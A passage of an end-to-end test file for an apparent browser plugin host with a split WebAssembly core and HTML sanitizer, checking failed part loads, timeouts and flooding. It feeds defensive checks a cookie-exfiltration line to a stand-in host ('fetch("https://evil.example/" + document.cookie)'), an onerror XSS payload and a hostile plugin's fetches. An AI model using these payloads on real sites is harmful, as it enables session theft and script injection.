test('preload(\'checks\', url) (esbuild: the package\'s relative URL is wrong) also points the synchronous load at url: a call that needs the part before that preload resolves loads it from there', async () => {
  const host = await freshHost();
  try {
    const { page } = host;
    const seen = [];
    // The URL next to the glue is gone (as in an esbuild bundle); the file is at /assets/.
    await scriptAnswers(page, CHECKS_WASM, ['404', '404', '404'], seen);
    const bytes = await (await fetch(`${env.servers.hostOrigin}${CHECKS_WASM}`)).arrayBuffer();
    await page.route('**/assets/checks-moved.wasm', (route) => {
      seen.push('moved');
      return route.fulfill({ status: 200, contentType: 'application/wasm', body: Buffer.from(bytes) });
    });
    const r = await page.evaluate(async (bad) => {
      const pkg = await import('/pkg/index.js');
      const pending = pkg.preload('checks', '/assets/checks-moved.wasm'); // not awaited yet
      let report;
      try { report = { ok: true, value: pkg.validateManifest(bad) }; } catch (e) { report = { ok: false, code: e.code, message: e.message }; }
      const preloaded = await pending.then(() => 'ok', (e) => e.code);
      return { report, preloaded, loaded: pkg.__pw_checksLoaded() };
    }, BAD_MANIFEST);
    assert.equal(r.report.ok, true, JSON.stringify(r.report));
    assert.equal(r.report.value.valid, false);
    assert.equal(r.preloaded, 'ok');
    assert.equal(r.loaded, true);
    assert.ok(seen.length >= 1 && seen.every((a) => a === 'moved'), `requests: ${JSON.stringify(seen)}`);
  } finally {
    await host.close();
  }
});

/**
 * Calls whose answers are made of the core's static data (error messages, diagnostics, CSP
 * text, signed bytes), each answer with whether the second part was loaded before the call.
 */
// Every manifest section a first visit's plugin leaves out (core::manifest::section), valid...
const SECTIONS = {
  id: 'data-sections', name: 'Sections', version: '1.0.0', permissions: ['api:read'],
  network: ['https://api.example/v1/'],
  entry: { src: 'https://cdn.example/p.js', integrity: `sha256-${'A'.repeat(43)}=` },
  assets: ['https://cdn.example'],
  allow: ['clipboard-write'],
  routes: [{ path: 'api/items', method: 'GET', url: 'https://api.example/v1/items' }],
  actionSets: [{ action: 'folders:edit', actions: ['data-sections.docs:write'] }],
  exposes: [{ name: 'docs.search', action: 'data-sections.docs:read' }],
  consumes: [{ plugin: 'other-app', name: 'ping' }],
};
// ... and each with a problem.
const BAD_SECTIONS = {
  network: ['ftp://api.example/'],
  entry: { src: 'http://cdn.example/p.js', integrity: 'md5-x' },
  assets: ['https://cdn.example/path'],
  allow: ['Clipboard Write'],
  routes: [{ path: 'has space' }],
  actionSets: [{ action: 'folders:view', actions: ['outside.docs:read'] }],
  exposes: [{ name: '', action: 'data-bad-sections.docs:read' }],
  consumes: [{ plugin: 'X', name: 'ping' }],
};

const dataAnswers = (page) => page.evaluate(async ({ bad, SECTIONS, BAD_SECTIONS }) => {
  const pkg = await import('/pkg/index.js');
  const host = window.e2e.host;
  const calls = [
    // A first visit's path: answered by the first part alone, with the data it keeps.
    () => host.trustedHTML('<b>x</b>'),
    () => host.hasPermission('plugins:read'),
    // Error paths and install-time checks: the second part, and the data it brings.
    () => host.status('nobody'),
    () => new pkg.PluginHost({ limits: { heartbeatMs: 1 } }),
    () => new pkg.PluginHost({ storage: 'nope' }),
    () => new pkg.PluginHost({ hostVersion: 'x.y', user: { role: 'Boss' } }),
    () => host.install(bad),
    () => host.install({ id: 'data-net', name: 'Net', version: '1.0.0', permissions: ['api:read'], network: ['http://evil.example/x'] }),
    // The manifest sections a first visit's plugin leaves out, parsed by functions of their own
    // that only the second part holds: valid, then each with a problem.
    () => host.install(SECTIONS),
    () => host.install({ ...SECTIONS, id: 'data-bad-sections', ...BAD_SECTIONS }),
    () => pkg.sanitize('<b>x</b>'),
    () => pkg.validateManifest(bad),
    () => pkg.validateManifest(JSON.stringify({ ...bad, id: 'ok-id', version: '1.0.0', network: ['ftp://x'], mode: 'frame' })),
    () => pkg.analyzeBundle('eval(atob("x")); fetch("https://evil.example/" + document.cookie)', { network: ['https://api.example'] }),
    () => pkg.hostCsp([{ id: 'csp-a', name: 'A', version: '1.0.0', network: ['https://api.example'] }], { reportOnly: true, reportTo: '/csp' }),
    () => Array.from(pkg.signedBytes({ id: 'signed', name: 'S', version: '1.0.0' }, 'console.log(1)')),
  ];
  const out = [];
  for (const call of calls) {
    const loaded = pkg.__pw_checksLoaded();
    try {
      const value = await call();
      out.push({ loaded, ok: true, value: value instanceof pkg.PluginHost ? 'a PluginHost' : value });
    } catch (e) {
      out.push({ loaded, ok: false, code: e.code, message: e.message });
    }
  }
  return out;
}, { bad: BAD_MANIFEST, SECTIONS, BAD_SECTIONS });

test('the split moves static data (messages, templates) with the code that reads it: the same answers, text for text, as the core unsplit, before and after the second part loads', async () => {
  // The same host page, its core module once as built (two parts) and once unsplit.
  const split = await freshHost();
  const whole = await unsplitHost('/pkg/plugin_warden_bg.wasm', 'target/split-core/plugin_warden_bg.wasm');
  try {
    const a = await dataAnswers(split.page);
    const fromWhole = env.servers.logs.host.length;
    const b = await dataAnswers(whole.page);
    const wholeFetches = env.servers.logs.host.slice(fromWhole).map((r) => new URL(r.url, 'http://x').pathname);
    // The split page answered the first calls from its first part alone (the second part was
    // not loaded after them either), then loaded the second for an error path.
    assert.deepEqual(a.slice(0, 3).map((r) => r.loaded), [false, false, false], JSON.stringify(a.slice(0, 3)));
    assert.equal(a[0].code, 'MODULE_NOT_LOADED', JSON.stringify(a[0]));
    assert.equal(a[a.length - 1].loaded, true, 'no call needed the second part: pick others');
    // The unsplit module has no second part: nothing to load, and nothing fetched.
    assert.ok(b.every((r) => r.loaded === true), 'the unsplit page waits for a second part');
    assert.equal(count(wholeFetches, CHECKS_WASM), 0, JSON.stringify(wholeFetches));
    const strip = (list) => list.map(({ loaded, ...rest }) => rest);
    assert.deepEqual(strip(a), strip(b));
    // The sections a first visit leaves out: a valid one installs, and a problem in each is
    // reported at its path.
    const [sections, badSections] = a.slice(8, 10);
    assert.equal(sections.ok && sections.value.id, 'data-sections', JSON.stringify(sections));
    assert.equal(badSections.code, 'INVALID_MANIFEST', JSON.stringify(badSections));
    for (const key of Object.keys(BAD_SECTIONS)) assert.ok(badSections.message.includes(key), `${key}: ${badSections.message}`);
    // The answers are real ones: errors with codes and whole messages.
    assert.ok(a.filter((r) => !r.ok).length >= 5, JSON.stringify(a).slice(0, 500));
    for (const r of a.filter((x) => !x.ok)) {
      assert.match(r.code, /^[A-Z_]+$/, JSON.stringify(r));
      assert.ok(r.message.length > 20 && !r.message.includes('\u0000'), JSON.stringify(r));
    }
  } finally {
    await split.close();
    await whole.close();
  }
});

const REST_WASM = '/pkg/sanitizer/plugin_warden_sanitizer_rest_bg.wasm';
// Ordinary HTML (what the sanitizer's first part holds the code for) and HTML that needs its
// second part: a link to a host that is not ASCII (IDNA).
const ORDINARY = [
  '<p onclick="x()">Tom &amp; Jerry&nbsp;&copy; <a href="https://example.com/a?b=c#d" target="_top">link</a> <a href="/rel">rel</a></p>',
  '<table><tr><td>1<td>2</table><ul><li>a<li>b</ul><form action="/x"><input name=q></form><img src="x.png" alt="i"><pre>\n code</pre>',
  PAYLOAD,
];
const IDN = '<a href="https://b\u00fccher.example/x">b\u00fccher</a><a href="http://\u0441\u0430\u0439\u0442.example">\u0441\u0430\u0439\u0442</a>';

/** `pkg.sanitize` of each input in the page: its output, or its error's code and message. */
const cleanAll = (page, inputs) => page.evaluate(async (inputs) => {
  const pkg = await import('/pkg/index.js');
  await pkg.preload('sanitizer');
  return inputs.map((html) => { try { return { ok: true, out: pkg.sanitize(html) }; } catch (e) { return { ok: false, code: e.code, message: e.message }; } });
}, inputs);

test('the sanitizer\'s second part: ordinary HTML never fetches it; a link to a host that is not ASCII loads it once, synchronously, and every answer is the unsplit sanitizer\'s, text for text', async () => {
  const split = await freshHost();
  const whole = await unsplitHost('/pkg/sanitizer/plugin_warden_sanitizer_bg.wasm', 'target/split-sanitizer/plugin_warden_sanitizer_bg.wasm');
  try {
    const ordinary = await cleanAll(split.page, ORDINARY);
    assert.equal(count(split.sanitizerRequests(), REST_WASM), 0, `fetched: ${split.sanitizerRequests()}`);
    const idn = await cleanAll(split.page, [IDN, IDN]);
    assert.equal(count(split.sanitizerRequests(), REST_WASM), 1, `fetched: ${split.sanitizerRequests()}`);
    const loaded = await split.page.evaluate(async () => (await import('/pkg/index.js')).preload('sanitizer-rest').then(() => 'ok'));
    assert.equal(loaded, 'ok');
    assert.equal(count(split.sanitizerRequests(), REST_WASM), 1, 'preload after the synchronous load fetched it again');
    const expected = await cleanAll(whole.page, [...ORDINARY, IDN, IDN]);
    assert.deepEqual([...ordinary, ...idn], expected);
    assert.ok(expected.every((r) => r.ok), JSON.stringify(expected));
    assert.ok(!/onerror|onclick|<script|<svg/.test(ordinary.map((r) => r.out).join('')), JSON.stringify(ordinary));
    assert.match(idn[0].out, /<a href="[^"]+"[^>]*>b\u00fccher<\/a>/, 'the IDN link is kept (its URL parsed, IDNA and all)');
  } finally {
    await split.close();
    await whole.close();
  }
});

test('a hostile worker plugin renders a link to an IDN host while the sanitizer\'s second part cannot load: its render is refused MODULE_NOT_LOADED and inserts nothing; its next render is sanitized as ever, and no handler runs', async () => {
  const host = await freshHost();
  try {
    const seen = [];
    // The mount's own preload of the second part (one request: it goes on without it), then the
    // render's synchronous load (two).
    await scriptAnswers(host.page, REST_WASM, ['404', '404', '404'], seen);
    const idn = '<a href="https://b\u00fccher.example/">b\u00fccher</a><img src="x.png" onerror="window.__pwned = 3">';
    const r = await renderFromWorker(host.page, 'idn-rui', `
      try { await sdk.ui.render(${JSON.stringify(idn)}); await sdk.events.emit('idn', { ok: true }); }
      catch (e) { await sdk.events.emit('idn', { ok: false, code: e.code }); }`);
    assert.deepEqual(r.mounted, { ok: true, value: { pluginId: 'idn-rui', mode: 'worker' } });
    const refused = r.events.find((e) => e.name === 'idn');
    assert.deepEqual(refused?.data, { ok: false, code: 'MODULE_NOT_LOADED' }, JSON.stringify(r.events));
    assert.ok(r.html.includes('<b>kept</b>'), `the next render is not in the shadow root: ${r.html}`);
    assert.doesNotMatch(r.html, /b\u00fccher|onerror|onload|<script|<svg|__pwned/i);
    assert.equal(r.pwned, null, 'a payload handler ran');
    // The next render loads the second part (a remote UI's policy is there), now served.
    assert.deepEqual(seen, ['404', '404', '404', 'server']);
  } finally {
    await host.close();
  }
});

// A render's clean that needs the sanitizer's second part loads it synchronously, on the page's
// main thread, when the mount's own preload of it failed. The time limit of a render's cleans
// (limits.renderCleanMs, 100 ms) is for the HTML: a load slower than it failed the render
// TIMEOUT ("the HTML took longer than 100 ms to clean") though the HTML was one line (found as a
// flaky test: a fresh clone's first load of the part, on a busy machine). The clean clock now
// stands still while a part loads; the engine's deadlines and the cleans read that one clock, so
// the limit does not grow after a load either.
test('a render whose clean loads the sanitizer\'s second part slowly (800 ms, after the mount\'s preload of it failed) keeps its whole time limit for the HTML: served (it failed TIMEOUT); after it, the limit holds (a nesting bomb is refused TIMEOUT at about the limit)', async () => {
  const host = await freshHost();
  try {
    const { page } = host;
    const seen = [];
    await page.route(`**${REST_WASM}`, async (route) => {
      if (seen.length === 0) {
        seen.push('404'); // the mount's preload
        await route.fulfill({ status: 404, contentType: 'text/plain', body: 'not found' });
        return;
      }
      seen.push('slow');
      await new Promise((r) => setTimeout(r, 800));
      await route.continue();
    });
    const code = `const sdk = await pluginWarden.connect();
      const render = async (html) => {
        for (let i = 0; ; i++) {
          const t0 = Date.now();
          try { await sdk.ui.render(html); return { ok: true, ms: Date.now() - t0 }; }
          catch (e) { if (e.code !== 'RATE_LIMITED' || i >= 100) return { ok: false, code: e.code, ms: Date.now() - t0 }; }
          await new Promise((r) => setTimeout(r, 100));
        }
      };
      const slow = await render('<p>one <b>line</b></p>');
      const bomb = await render('<ul><li>'.repeat(4995) + 'deep');
      const after = await render('<p id="after">after</p>');
      await sdk.events.emit('clocked', { slow, bomb, after });`;
    const mounted = await page.evaluate(async (c) => {
      const installed = await window.e2e.install({ id: 'slow-rest', name: 'Slow rest', permissions: ['ui:render', 'events'] }, { code: c });
      window.e2e.mountWorker('slow-rest', { ui: 'shadow' });
      return { installed: installed.ok, mounted: await window.e2e.settled('slow-rest') };
    }, code);
    assert.deepEqual(mounted, { installed: true, mounted: { ok: true, value: { pluginId: 'slow-rest', mode: 'worker' } } });
    const r = await until(() => page.evaluate(() => window.e2e.state.events.find((e) => e.pluginId === 'slow-rest' && e.name === 'clocked')?.data), 30_000);
    assert.ok(r, 'the worker never reported');
    assert.deepEqual(seen, ['404', 'slow']);
    assert.equal(r.slow.ok, true, `the one-line render: ${JSON.stringify(r)}`);
    assert.ok(r.slow.ms >= 800, JSON.stringify(r));
    assert.equal(r.bomb.code, 'TIMEOUT', JSON.stringify(r));
    // Stopped by its clean's own limit (100 ms on the clean clock), not by the limit plus the
    // load's 800 ms. (The render's second clean keeps to the engine's deadline, read on the same
    // clock: tests/e2e/remote-ui's growing renders check that deadline, without a load.)
    assert.ok(r.bomb.ms < 600, `the bomb was served for ${r.bomb.ms} ms: ${JSON.stringify(r)}`);
    assert.equal(r.after.ok, true, JSON.stringify(r));
    const paused = await page.evaluate(() => globalThis[Symbol.for('plugin-warden: synchronous loads, ms')]);
    assert.ok(paused >= 800, `the clean clock stood still ${paused} ms`);
  } finally {
    await host.close();
  }
});

test('a host with its own sanitizer options: its first clean needs the sanitizer\'s second part (the options are read there); if that cannot load, MODULE_NOT_LOADED, not a refused policy; once loaded, the options apply', async () => {
  const host = await freshHost();
  try {
    const seen = [];
    await scriptAnswers(host.page, REST_WASM, ['404', '404'], seen);
    const r = await host.page.evaluate(async () => {
      const pkg = await import('/pkg/index.js');
      const own = new pkg.PluginHost({ storage: 'memory', sanitizer: { linkTarget: 'blank', removeElements: ['img'] } });
      await pkg.preload('sanitizer');
      const attempt = (f) => { try { return { ok: true, value: String(f()) }; } catch (e) { return { ok: false, code: e.code, message: e.message }; } };
      const html = '<a href="/x" onclick="x()">x</a><img src="y.png">';
      const first = attempt(() => own.trustedHTML(html));
      const loaded = await pkg.preload('sanitizer-rest').then(() => 'ok', (e) => e.code);
      const again = attempt(() => own.trustedHTML(html));
      return { first, loaded, again };
    });
    assert.equal(r.first.ok, false, JSON.stringify(r.first));
    assert.equal(r.first.code, 'MODULE_NOT_LOADED', JSON.stringify(r.first));
    assert.match(r.first.message, /plugin_warden_sanitizer_rest_bg\.wasm: the server answered HTTP 404/);
    assert.equal(r.loaded, 'ok');
    assert.equal(r.again.ok, true, JSON.stringify(r.again));
    assert.equal(r.again.value, '<a href="/x" rel="noopener noreferrer" target="_blank">x</a>');
    assert.deepEqual(seen, ['404', '404', 'server']);
  } finally {
    await host.close();
  }
});

test('the sanitizer\'s second part fails to load: that clean throws MODULE_NOT_LOADED naming the file, never returns HTML; the host and the sanitizer go on working (300 failures in a row: past the 242 that would overflow the stack without its reset); a later preload(\'sanitizer-rest\') succeeds and the same clean answers', async () => {
  const host = await freshHost();
  try {
    const { page } = host;
    const seen = [];
    await scriptAnswers(page, REST_WASM, Array(600).fill('404'), seen); // each synchronous load tries twice
    const r = await page.evaluate(async ({ idn, ordinary }) => {
      const pkg = await import('/pkg/index.js');
      const host = window.e2e.host;
      await pkg.preload('sanitizer');
      const attempt = (f) => { try { return { ok: true, value: String(f()) }; } catch (e) { return { ok: false, name: e.name, code: e.code, message: e.message }; } };
      const failures = [];
      // trustedHTML: what a first visit calls (the core's first part holds it).
      for (let i = 0; i < 300; i++) failures.push(attempt(() => host.trustedHTML(idn)));
      const after = ordinary.map((html) => attempt(() => host.trustedHTML(html)));
      const permission = attempt(() => host.hasPermission('plugins:read'));
      // The core reported each failure without its own second part.
      const checksLoaded = pkg.__pw_checksLoaded();
      const restLoaded = await pkg.preload('sanitizer-rest').then(() => 'ok', (e) => e.code);
      const again = attempt(() => pkg.sanitize(idn));
      const other = attempt(() => pkg.sanitize(ordinary[0]));
      return { failures, after, permission, checksLoaded, restLoaded, again, other };
    }, { idn: IDN, ordinary: ORDINARY });
    for (const f of r.failures) {
      assert.equal(f.ok, false, JSON.stringify(f));
      assert.equal(f.code, 'MODULE_NOT_LOADED', JSON.stringify(f));
      assert.match(f.message, /plugin_warden_sanitizer_rest_bg\.wasm: the server answered HTTP 404/);
      assert.match(f.message, /preload\('sanitizer-rest'\)/, 'the message says how to load it ahead');
    }
    assert.ok(r.after.every((a) => a.ok), JSON.stringify(r.after));
    assert.ok(!/onerror|<script|<svg/.test(r.after.map((a) => a.value).join('')));
    assert.equal(r.other.ok, true, JSON.stringify(r.other));
    assert.equal(r.permission.ok, true, JSON.stringify(r.permission));
    assert.equal(r.checksLoaded, false, 'the core needed its second part to report the failure');
    assert.equal(r.restLoaded, 'ok');
    assert.equal(r.again.ok, true, JSON.stringify(r.again));
    assert.match(r.again.value, /b\u00fccher<\/a>/);
    assert.equal(seen.filter((s) => s === '404').length, 600);
  } finally {
    await host.close();
  }
});

// A host's own synchronous calls that run code of the core's second part: on every path (the
// inspector's, a grant, a route check, …) or for a plugin that is not installed (their NOT_FOUND).
const HOST_CALLS = {
  'auditLog()': (h) => h.auditLog().length > 0,
  'bridgeStats()': (h) => typeof h.bridgeStats().ignoredMessages,
  "inspect('notes')": (h) => h.inspect('notes').status.state,
  "grant('notes', 'ui:notify')": (h) => h.grant('notes', 'ui:notify'),
  "canAccessRoute('notes', '/x', 'GET')": (h) => h.canAccessRoute('notes', '/x', 'GET'),
  "cspHeader({ nonce })": (h) => typeof h.cspHeader({ nonce: 'cGFja2FnZS10ZXN0LW5vbmNl' }),
  "hasPermission(action, scope)": (h) => h.hasPermission('notes.things:read', 'notes'),
  "status('nobody')": (h) => h.status('nobody'),
  "unmount('nobody')": (h) => h.unmount('nobody'),
  "visibleIncludes('nobody')": (h) => h.visibleIncludes('nobody'),
  "uninstall('nobody')": (h) => h.uninstall('nobody'),
};

test('a host\'s synchronous calls that need the core\'s second part (the inspector\'s, a grant, a route check, a plugin not installed, …) while it cannot load: each throws MODULE_NOT_LOADED before touching the host, which goes on (never stopped: its status, its plugin\'s calls, a mount); once the network is back each answers as ever. Mounts of a plugin not installed or mounted already load the part asynchronously', { timeout: 90_000 }, async () => {
  const host = await freshHost();
  try {
    const { page, errors } = host;
    await mountNotes(page);
    await watchSyncRequests(page);
    const notes = await pluginFrame(page, 'notes', { state: 'connected' });
    const seen = [];
    const recover = await failUntil(page, CHECKS_WASM, seen);
    const run = (names) => page.evaluate(async (src) => {
      const calls = Object.fromEntries(src.map(([n, f]) => [n, (0, eval)(f)]));
      const out = {};
      for (const [name, call] of Object.entries(calls)) {
        try {
          out[name] = { ok: true, value: call(window.e2e.host) ?? null };
        } catch (e) {
          out[name] = { ok: false, code: e.code, message: e.message };
        }
      }
      return out;
    }, names);
    const calls = Object.entries(HOST_CALLS).map(([n, f]) => [n, f.toString()]);
    const failed = await run(calls);
    for (const [name, r] of Object.entries(failed)) {
      assert.equal(r.code, 'MODULE_NOT_LOADED', `${name}: ${JSON.stringify(r)}`);
      assert.match(r.message, /this call needs the rest of the core module, which could not be loaded from \S*plugin_warden_checks_bg\.wasm: the server answered HTTP 404/, name);
      assert.doesNotMatch(r.message, /stopped/, name);
    }
    // Each tried the load (and its retry) before entering the wasm; the host goes on.
    assert.equal(seen.length, 2 * calls.length, JSON.stringify(seen));
    const after = await page.evaluate(async () => {
      const h = window.e2e.host;
      const settle = (p) => p.then((v) => ({ ok: true, v }), (e) => ({ ok: false, code: e.code, message: e.message }));
      const install = await settle(h.install({ id: 'second', name: 'Second', version: '1.0.0', permissions: [] }));
      return { status: h.status('notes'), install: install.ok, plugins: h.plugins() };
    });
    assert.deepEqual(after, { status: { state: 'mounted' }, install: true, plugins: ['notes', 'second'] });
    const stored = await notes.evaluate(() => window.notes.run('storage.get', 'note'));
    assert.equal(stored.ok, true, JSON.stringify(stored));
    // A mount of a plugin not installed, or mounted already, while the part cannot load:
    // refused MODULE_NOT_LOADED by its asynchronous load, not a synchronous one.
    const before = (await page.evaluate(() => window.syncRequests)).length;
    const mounts = await page.evaluate(async () => {
      const h = window.e2e.host;
      const settle = (p) => p.then(() => ({ ok: true }), (e) => ({ code: e.code }));
      return [await settle(h.mount('nobody', document.body, { src: '/notes/' })), await settle(h.mount('notes', document.body, { src: '/notes/' }))];
    });
    assert.deepEqual(mounts, [{ code: 'MODULE_NOT_LOADED' }, { code: 'MODULE_NOT_LOADED' }]);
    assert.equal((await page.evaluate(() => window.syncRequests)).length, before, 'a mount loaded the part synchronously');
    assert.deepEqual(await page.evaluate(() => window.e2e.host.status('notes')), { state: 'mounted' });

    // The network is back: the same calls answer as ever, the first loading the part.
    recover();
    const answered = await run(calls);
    const expected = {
      'auditLog()': { ok: true, value: true },
      'bridgeStats()': { ok: true, value: 'number' },
      "inspect('notes')": { ok: true, value: 'mounted' },
      "grant('notes', 'ui:notify')": { ok: true, value: null },
      "canAccessRoute('notes', '/x', 'GET')": 'NOT_FOUND',
      "cspHeader({ nonce })": { ok: true, value: 'string' },
      "hasPermission(action, scope)": { ok: true, value: false },
      "status('nobody')": 'NOT_FOUND',
      "unmount('nobody')": 'NOT_FOUND',
      "visibleIncludes('nobody')": 'NOT_FOUND',
      "uninstall('nobody')": 'NOT_FOUND',
    };
    for (const [name, r] of Object.entries(answered)) {
      if (typeof expected[name] === 'string') assert.equal(r.code, expected[name], `${name}: ${JSON.stringify(r)}`);
      else assert.deepEqual(r, expected[name], name);
    }
    const mountsBack = await page.evaluate(async () => {
      const h = window.e2e.host;
      const settle = (p) => p.then(() => ({ ok: true }), (e) => ({ code: e.code }));
      return [await settle(h.mount('nobody', document.body, { src: '/notes/' })), await settle(h.mount('notes', document.body, { src: '/notes/' }))];
    });
    assert.deepEqual(mountsBack, [{ code: 'NOT_FOUND' }, { code: 'ALREADY_EXISTS' }]);
    assert.deepEqual(errors, []);
  } finally {
    await host.close();
  }
});

test('a fresh host\'s mount of a plugin not installed, or mounted already, loads the core\'s second part asynchronously for its refusal: never a synchronous request', async () => {
  await needingThePart('mounts refused', 'hostile', async ({ page }) => {
    const r = await page.evaluate(async () => {
      const h = window.e2e.host;
      const settle = (p) => p.then(() => ({ ok: true }), (e) => ({ code: e.code }));
      return [await settle(h.mount('nobody', document.body, { src: '/notes/' })), await settle(h.mount('hostile', document.body, { src: '/hostile/' }))];
    });
    assert.deepEqual(r, [{ code: 'NOT_FOUND' }, { code: 'ALREADY_EXISTS' }]);
  });
});

test('a plugin flooding calls that need the core\'s second part while it cannot load does not grow the host\'s memory without bound: after 32 of its messages cut off in their read-ahead, the next are answered MODULE_NOT_LOADED without one (each counted, audited once a second), but calls of a method the host served it before are still served; its pongs still reach the host, which goes on; once the part loads its calls are served again', { timeout: 90_000 }, async () => {
  // The host page's wasm memories, seen as they are instantiated.
  const context = await env.browser.newContext();
  await context.addInitScript(() => {
    window.wasmMemories = [];
    const keep = (r) => {
      const memory = (r.instance ?? r)?.exports?.memory;
      if (memory) window.wasmMemories.push(memory);
      return r;
    };
    const streaming = WebAssembly.instantiateStreaming;
    WebAssembly.instantiateStreaming = (...a) => streaming(...a).then(keep);
    const plain = WebAssembly.instantiate;
    WebAssembly.instantiate = (...a) => plain(...a).then(keep);
  });
  try {
    const { page } = await openHost(env, 'scenario=none&host-csp=none', { context });
    const errors = [];
    page.on('pageerror', (e) => errors.push(`${e.name}: ${e.message}`));
    // A fast heartbeat: a plugin whose pongs stopped reaching the host is failed within a second.
    await page.evaluate(() => window.e2e.create({ storage: 'memory', limits: { heartbeatMs: 100, unresponsiveAfterMs: 1000 } }));
    const hostile = await mountHostile(page);
    await watchSyncRequests(page);
    const seen = [];
    const recover = await failUntil(page, CHECKS_WASM, seen);
    const memory = () => page.evaluate(() => window.wasmMemories.reduce((n, m) => n + m.buffer.byteLength, 0));
    // Calls that need the part (a URL the manifest does not declare), each of ~8 KB: cut off in
    // their read-ahead, each leaked ~16 KB before.
    const flood = (n) => hostile.evaluate(async (count) => {
      const codes = {};
      for (let i = 0; i < count; i++) {
        const r = await window.hostile.attack('send', ['api.fetch', { url: `https://evil.example/${'x'.repeat(8000)}` }]);
        const code = r.reply ? (r.reply.ok ? 'ok' : r.reply.error.code) : 'no reply';
        codes[code] = (codes[code] ?? 0) + 1;
      }
      return codes;
    }, n);
    // Before the flood, a call the first part serves.
    assert.equal(codeOf(await attack(hostile, 'send', ['permissions.list', {}])), 'ok');
    const floodAt = Date.now();
    assert.deepEqual(await flood(40), { MODULE_NOT_LOADED: 40 });
    const before = await memory();
    assert.ok(before > 0, 'no wasm memory seen');
    assert.deepEqual(await flood(600), { MODULE_NOT_LOADED: 600 });
    const grown = (await memory()) - before;
    assert.ok(grown <= 1024 * 1024, `the host's wasm memory grew ${grown} bytes over 600 messages (9.6 MB leaked before)`);
    // Over its budget, the plugin's calls of a method it never called are answered as the
    // part's, at once; those of a method the first part served it are still served. The host
    // goes on, and so does the heartbeat (its pongs are read as ever).
    const has = await attack(hostile, 'send', ['permissions.has', { permission: 'events' }]);
    assert.equal(codeOf(has), 'MODULE_NOT_LOADED', JSON.stringify(has));
    const list = await attack(hostile, 'send', ['permissions.list', {}]);
    assert.equal(codeOf(list), 'ok', JSON.stringify(list));
    // Each of the 641 was audited, and the flood did not flood the audit log: one event a
    // second at most (the method each names), the rest counted.
    const audited = await page.evaluate(() => window.e2e.state.audits.filter((e) => e.code === 'MODULE_NOT_LOADED').map((e) => e.method));
    assert.ok(audited.length >= 1 && audited.length <= 1 + Math.ceil((Date.now() - floodAt) / 1000), `${audited.length} events`);
    assert.ok(audited.every((m) => m === 'api.fetch' || m === 'permissions.has'), JSON.stringify(audited));
    await new Promise((resolve) => setTimeout(resolve, 2500));
    assert.equal(await page.evaluate(() => window.e2e.host.status('hostile').state), 'mounted');
    // The network is back: a later retry loads the part, and the same calls are served.
    recover();
    await deniedOnceLoaded(hostile, 80);
    assert.equal(codeOf(await attack(hostile, 'send', ['permissions.has', { permission: 'events' }])), 'ok');
    assert.ok((await page.evaluate(() => window.e2e.host.inspect('hostile').counts.MODULE_NOT_LOADED)) >= 641);
    assert.deepEqual(await page.evaluate(() => window.syncRequests), [], 'a synchronous request');
    assert.deepEqual(errors, []);
  } finally {
    await context.close();
  }
});

test('while the core\'s second part loads slowly (its response stalled), a plugin that answers its pings is not failed; its call that needs the part is answered MODULE_NOT_LOADED after about 5 s, before its client\'s 10 s timeout, and the call held behind it is served; once the part arrives, it serves such calls', { timeout: 90_000 }, async () => {
  const host = await freshHost();
  let release = () => {};
  try {
    const { page, errors } = host;
    // A fast heartbeat: a plugin whose pongs stopped reaching the host is failed within a second.
    await page.evaluate(() => window.e2e.create({ storage: 'memory', limits: { heartbeatMs: 100, unresponsiveAfterMs: 1000 } }));
    const stalled = new Promise((resolve) => { release = resolve; });
    const asked = [];
    await page.route(`**${CHECKS_WASM}`, async (route) => {
      asked.push(Date.now());
      await stalled;
      await route.continue();
    });
    const hostile = await mountHostile(page);
    await watchSyncRequests(page);
    const sentAt = Date.now();
    // Both sent at once: the first needs the part (a URL the manifest does not declare), the
    // second, held behind it, does not.
    const [fetched, listed] = await hostile.evaluate(() => Promise.all([
      window.hostile.attack('send', ['api.fetch', { url: 'https://evil.example/' }, 9000]).then((r) => ({ ...r, at: Date.now() })),
      window.hostile.attack('send', ['permissions.list', {}, 9000]).then((r) => ({ ...r, at: Date.now() })),
    ]));
    assert.ok(asked.length >= 1, 'the part was never asked for');
    assert.equal(codeOf(fetched), 'MODULE_NOT_LOADED', JSON.stringify(fetched));
    assert.match(fetched.reply.error.message, /^not served/);
    assert.equal(codeOf(listed), 'ok', JSON.stringify(listed));
    const waited = fetched.at - sentAt;
    assert.ok(waited >= 4500 && waited < 8500, `answered after ${waited} ms`);
    // Five seconds of a stalled load, and the plugin, which answered every ping, is mounted.
    assert.equal(await page.evaluate(() => window.e2e.host.status('hostile').state), 'mounted');
    const failures = await page.evaluate(() => window.e2e.state.audits.filter((e) => e.kind === 'failure').map((e) => e.code));
    assert.deepEqual(failures, []);
    // The response arrives: the load that went on serves the same call.
    release();
    await deniedOnceLoaded(hostile, 40);
    assert.equal(await page.evaluate(() => window.e2e.host.status('hostile').state), 'mounted');
    assert.deepEqual(await page.evaluate(() => window.syncRequests), [], 'a synchronous request');
    assert.deepEqual(errors, []);
  } finally {
    release();
    await host.close();
  }
});

/** Stop the plugin's frame from answering the host's pings (its pongs are dropped). */
const silence = (frame) => frame.evaluate(() => {
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (message, ...rest) {
    return message && message.event === 'pong' ? undefined : post.call(this, message, ...rest);
  };
});

test('a plugin that stops answering the heartbeat is failed TIMEOUT on time by code of the core\'s first part: while the second cannot load (the host goes on, the other plugin too) or could; the second part is never fetched for it', { timeout: 90_000 }, async () => {
  for (const reachable of [false, true]) {
    const host = await freshHost();
    try {
      const { page, errors } = host;
      await page.evaluate(() => window.e2e.create({ storage: 'memory', limits: { heartbeatMs: 100, unresponsiveAfterMs: 1000 } }));
      await mountNotes(page);
      const hostile = await mountHostile(page);
      await watchSyncRequests(page);
      const seen = [];
      if (!reachable) await failUntil(page, CHECKS_WASM, seen);
      const silentAt = Date.now();
      await silence(hostile);
      const states = () => page.evaluate(() => ['hostile', 'notes'].map((id) => window.e2e.host.status(id)));
      const failed = await until(async () => {
        const [silent, other] = await states();
        return silent.state === 'failed' ? [silent, other] : null;
      }, 10_000, 100);
      const tookMs = Date.now() - silentAt;
      assert.ok(failed, `the silent plugin was never failed (${reachable ? 'the part reachable' : 'the part unreachable'})`);
      // unresponsiveAfterMs after its last pong, a tick or two late at most (and the page's
      // round trips): not waiting for anything to load.
      assert.ok(tookMs < 4000, `failed after ${tookMs} ms`);
      assert.equal(failed[0].code, 'TIMEOUT', JSON.stringify(failed));
